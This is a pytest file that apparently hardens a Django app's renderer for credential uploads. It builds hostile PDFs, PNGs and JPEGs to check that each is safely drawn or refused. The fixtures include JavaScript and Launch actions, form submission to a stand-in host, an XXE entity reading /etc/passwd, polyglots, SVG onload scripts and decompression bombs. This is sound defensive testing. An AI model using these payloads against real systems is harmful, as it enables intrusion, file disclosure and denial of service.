"""Documents made to break things: each is refused in words, or drawn as plain pictures, and nothing falls over."""

from __future__ import annotations

import io
import pickle
import random
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Iterator

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from core.errors import Invalid
from experts.actions import add_evidence
from experts.models import Credential
from experts.policies import content_type
from experts.rendering import HOME, SECONDS, Unreadable, render_safely
from tests import people
from tests.experts.test_rendering import JPEG, PDF, PNG, pdf, picture, png_bomb

DRAWN, REFUSED, EITHER = "drawn", "refused", "either"


def objects(*bodies: bytes, trailer: bytes = b"/Root 1 0 R", head: bytes = b"%PDF-1.7\n") -> bytes:
    """A PDF of these objects, numbered from 1, with a true table of where they stand."""
    file, places = bytearray(head), []
    for number, body in enumerate(bodies, start=1):
        places.append(len(file))
        file += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(file)
    file += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    file += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(file + b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, trailer, start))


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>"


def catalog(extra: bytes = b"") -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R %s >>" % extra


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def zipped(member: bytes = b"payload") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("a.txt", member)
    return file.getvalue()


def chunked(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def flate_bomb(levels: int = 1) -> bytes:
    data = b"0 " * 4_000_000
    for _ in range(levels):
        data = zlib.compress(data, 9)
    return data


def actions_of_pdf() -> Iterator[tuple[str, bytes, str, str]]:
    """Scripts, launches, links and embedded files: the page is drawn, nothing is done."""
    for name, action in {
        "javascript": b"/S /JavaScript /JS (app.alert(1))",
        "launch": b"/S /Launch /F (calc.exe)",
        "uri": b"/S /URI /URI (http://evil.example/)",
        "submit": b"/S /SubmitForm /F (http://evil.example/)",
        "remote": b"/S /GoToR /F (//evil.example/share)",
        "import": b"/S /ImportData /F (/etc/passwd)",
    }.items():
        yield f"pdf opens with {name}", objects(catalog(b"/OpenAction << %s >>" % action), PAGES, PAGE), PDF, DRAWN
        yield (
            f"pdf page does {name}",
            objects(catalog(), PAGES, PAGE[:-2] + b"/AA << /O << %s >> >> >>" % action),
            PDF,
            DRAWN,
        )
    embedded = b"/Names << /EmbeddedFiles << /Names [(x) << /Type /Filespec /F (x.exe) /EF << /F 4 0 R >> >>] >> >>"
    yield "pdf with an embedded program", objects(catalog(embedded), PAGES, PAGE, stream(b"MZ\x90\0" * 64)), PDF, DRAWN
    xfa = b"/AcroForm << /XFA 4 0 R /Fields [] >>"
    entities = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    yield "pdf with a form of entities", objects(catalog(xfa), PAGES, PAGE, stream(entities)), PDF, DRAWN


def odd_pdfs() -> Iterator[tuple[str, bytes, str, str]]:
    locked = b"/Root 1 0 R /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <%s> /U <%s> >> /ID [<00><00>]"
    hidden = b"41" * 32
    yield "pdf with a password", objects(catalog(), PAGES, PAGE, trailer=locked % (hidden, hidden)), PDF, REFUSED
    yield "pdf without pages", objects(catalog(), b"<< /Type /Pages /Kids [] /Count 0 >>"), PDF, REFUSED
    yield (
        "pdf that says it has a million",
        objects(catalog(), PAGES.replace(b"/Count 1", b"/Count 1000000"), PAGE),
        PDF,
        EITHER,
    )
    yield (
        "pdf of pages within themselves",
        objects(catalog(), b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
        PDF,
        EITHER,
    )
    yield "pdf of forty pages", pdf(40, (60, 60)), PDF, REFUSED
    yield "pdf of no size", objects(catalog(), PAGES, PAGE.replace(b"200 100", b"0 0")), PDF, EITHER
    yield "pdf a mile wide", objects(catalog(), PAGES, PAGE.replace(b"200 100", b"1e12 1e-9")), PDF, EITHER
    yield "pdf of negative size", objects(catalog(), PAGES, PAGE.replace(b"0 0 200 100", b"9 9 -9 -9")), PDF, EITHER
    yield "pdf whose table lies", objects(catalog(), PAGES, PAGE).replace(b"0000000009", b"9999999999"), PDF, EITHER
    yield "pdf whose table is endless", objects(catalog(), PAGES, PAGE).replace(b"0 4\n", b"0 999999999\n"), PDF, EITHER
    loop = objects(catalog(), PAGES, PAGE)
    start = loop.rindex(b"startxref\n") + 10
    back = loop[start:].split(b"\n")[0]
    yield "pdf whose tables turn in a ring", loop.replace(b"/Size", b"/Prev %s /Size" % back), PDF, EITHER
    yield "pdf nested ten thousand deep", objects(catalog(b"/X " + b"[" * 10_000), PAGES, PAGE), PDF, EITHER
    content = PAGE[:-2] + b"/Contents 4 0 R >>"
    yield (
        "pdf of a page of nothing, 8 MB of it",
        objects(catalog(), PAGES, content, stream(flate_bomb(), b"/Filter /FlateDecode")),
        PDF,
        EITHER,
    )
    yield (
        "pdf zipped twice",
        objects(catalog(), PAGES, content, stream(flate_bomb(2), b"/Filter [/FlateDecode /FlateDecode]")),
        PDF,
        EITHER,
    )
    image = b"/Type /XObject /Subtype /Image /Width 20000 /Height 20000 /ColorSpace /DeviceGray /BitsPerComponent 8"
    drawn = content[:-2] + b"/Resources << /XObject << /I 5 0 R >> >> >>"
    yield (
        "pdf of a picture with 400 million points",
        objects(
            catalog(),
            PAGES,
            drawn,
            stream(b"200 0 0 100 0 0 cm /I Do"),
            stream(zlib.compress(b"\0" * 1_000_000), image + b" /Filter /FlateDecode"),
        ),
        PDF,
        EITHER,
    )
    form = stream(
        b"/F Do /F Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>"
    )
    yield (
        "pdf of a form within itself",
        objects(catalog(), PAGES, drawn.replace(b"/I 5", b"/F 5"), stream(b"/F Do"), form),
        PDF,
        EITHER,
    )


def polyglots() -> Iterator[tuple[str, bytes, str, str]]:
    """Two things at once: what we make of them is one of them, drawn by ourselves."""
    html = b"<html><script>alert(1)</script></html>"
    yield "png that is a page too", picture() + html, PNG, DRAWN
    yield "jpeg that is a page too", picture(kind="JPEG") + html, JPEG, DRAWN
    yield "jpeg that is an archive too", picture(kind="JPEG") + zipped(), JPEG, DRAWN
    yield "png that is an archive too", picture() + zipped(), PNG, DRAWN
    yield "pdf that is an archive too", pdf(1) + zipped(), PDF, DRAWN
    yield "pdf that is a page too", objects(catalog(), PAGES, PAGE, head=b"%PDF-1.7\n" + html), PDF, DRAWN
    said = picture().replace(b"IEND", b"IEND", 1)
    text = chunked(b"tEXt", b"Comment\0<script>alert(1)</script>")
    yield "png with a script in its remarks", said[:33] + text + said[33:], PNG, DRAWN
    profile = chunked(b"iCCP", b"x\0\0" + zlib.compress(b"\0" * 30_000_000))
    yield "png with a profile of 30 MB", said[:33] + profile + said[33:], PNG, EITHER
    remarks = chunked(b"zTXt", b"x\0\0" + zlib.compress(b"\0" * 80_000_000))
    yield "png with remarks of 80 MB", said[:33] + remarks + said[33:], PNG, EITHER


def bombs() -> Iterator[tuple[str, bytes, str, str]]:
    yield "png of 50,000 by 50,000", png_bomb(50_000), PNG, REFUSED
    yield "png as large as can be said", png_bomb(2**31 - 1), PNG, REFUSED
    yield "png of no size", png_bomb(0), PNG, REFUSED
    size = bytearray(picture(kind="JPEG"))
    at = size.index(b"\xff\xc0") + 5
    size[at : at + 4] = b"\xff\xff\xff\xff"
    yield "jpeg of 65,535 by 65,535", bytes(size), JPEG, REFUSED
    yield "jpeg of nothing", b"\xff\xd8\xff\xd9", JPEG, REFUSED
    yield "png of nothing", b"\x89PNG\r\n\x1a\n", PNG, REFUSED
    yield "pdf of nothing", b"%PDF-1.7\n%%EOF", PDF, REFUSED
    yield "pdf of noise", b"%PDF-1.7\n" + random.Random(7).randbytes(50_000), PDF, REFUSED
    yield "png of noise", b"\x89PNG\r\n\x1a\n" + random.Random(8).randbytes(50_000), PNG, REFUSED
    yield "jpeg of noise", b"\xff\xd8\xff" + random.Random(9).randbytes(50_000), JPEG, REFUSED
    yield "a jpeg called a png", picture(kind="JPEG"), PNG, REFUSED
    yield "a pdf called a jpeg", pdf(1), JPEG, REFUSED


def cut_and_flipped() -> Iterator[tuple[str, bytes, str, str]]:
    """A real one of each kind, cut off at several places, and with bytes changed as a bad cable would."""
    chance = random.Random(26)
    for kind, whole in ((PDF, pdf(1)), (PNG, picture((300, 200))), (JPEG, picture((300, 200), "JPEG"))):
        for part in (1, 4, 7, 9):
            yield f"{kind} cut at {part}/10", whole[: len(whole) * part // 10], kind, EITHER
        for turn in range(6):
            broken = bytearray(whole)
            for _ in range(1 + 3 * turn):
                broken[chance.randrange(12, len(broken))] ^= 1 << chance.randrange(8)
            yield f"{kind} with {1 + 3 * turn} bytes changed", bytes(broken), kind, EITHER


VARIANTS = [*actions_of_pdf(), *odd_pdfs(), *polyglots(), *bombs(), *cut_and_flipped()]


HEAVY = ("400 million", "8 MB", "zipped twice", "30 MB", "80 MB", "within itself", "endless", "million")
READER = """
import pickle, sys, tempfile
from pathlib import Path
from experts.rendering import Unreadable, render

found = {}
for name, document, kind in pickle.load(sys.stdin.buffer):
    with tempfile.TemporaryDirectory() as folder:
        try:
            count = render(document, kind, Path(folder))
            found[name] = [(Path(folder) / f"{page}.png").read_bytes() for page in range(1, count + 1)]
        except Unreadable as problem:
            found[name] = str(problem)
        except Exception:
            found[name] = "it is damaged or too large to open."
pickle.dump(found, sys.stdout.buffer)
"""


@pytest.fixture(scope="module")
def results() -> dict[str, list[bytes] | str]:
    """Its pages, or why there are none. Those that take much each in the worker's own box; the others share a process,
    because starting one takes longer than reading them. If one of those kills it, the fixture fails."""
    heavy = [variant for variant in VARIANTS if any(word in variant[0] for word in HEAVY)]
    light = [variant[:3] for variant in VARIANTS if variant not in heavy]
    found: dict[str, list[bytes] | str] = {}
    for name, document, kind, _ in heavy:
        try:
            found[name] = render_safely(document, kind)
        except Unreadable as problem:
            found[name] = str(problem)
    read = subprocess.run(
        [sys.executable, "-c", READER], input=pickle.dumps(light), capture_output=True, check=True, cwd=HOME
    )
    found |= pickle.loads(read.stdout)
    return found


@pytest.mark.parametrize(("name", "expected"), [(name, expected) for name, _, _, expected in VARIANTS])
def test_it_is_drawn_or_refused_in_words(name: str, expected: str, results: dict[str, list[bytes] | str]) -> None:
    found = results[name]
    if isinstance(found, str):
        assert expected in (REFUSED, EITHER), found
        assert found.endswith(".")
        assert "Traceback" not in found
        return
    assert expected in (DRAWN, EITHER)
    assert found
    for page in found:
        assert page.startswith(b"\x89PNG")
        assert b"script" not in page.lower()
        with Image.open(io.BytesIO(page)) as drawn:
            assert max(drawn.size) <= 1_801  # the PDF library rounds up


def test_there_are_many_and_the_limit_is_known() -> None:
    assert len({name for name, *_ in VARIANTS}) == len(VARIANTS) >= 60
    assert SECONDS <= 30


@pytest.mark.parametrize(
    "document",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b'<?xml version="1.0"?><svg/>',
        b"<html><script>alert(1)</script>",
        b"GIF89a" + b"\0" * 20,
        b"RIFF\0\0\0\0WEBPVP8 ",
        b"II*\0" + b"\0" * 20,
        b"PK\x03\x04" + b"\0" * 20,
        b"MZ\x90\0",
        b"\x7fELF",
        b"#!/bin/sh\n",
        b" %PDF-1.7",
        b"\0\0\0\x0cjP  ",
        b"%!PS-Adobe-3.0",
        b"\x1f\x8b\x08\0",
    ],
)
def test_what_is_no_document_is_turned_away_at_the_door_whatever_its_name(document: bytes) -> None:
    with pytest.raises(Invalid, match="PDF, JPEG or PNG"):
        content_type(document[:16])


@pytest.mark.django_db
def test_an_svg_called_png_is_kept_nowhere() -> None:
    emil = people.expert("Emil", verified=False)
    credential = people.credential(emil, status=Credential.Status.CLAIMED)
    upload = SimpleUploadedFile("diploma.png", b"<svg onload=alert(1)>", content_type="image/png")
    with pytest.raises(Invalid):
        add_evidence(credential=credential, upload=upload, by=emil.user)
    assert not credential.evidence.exists()
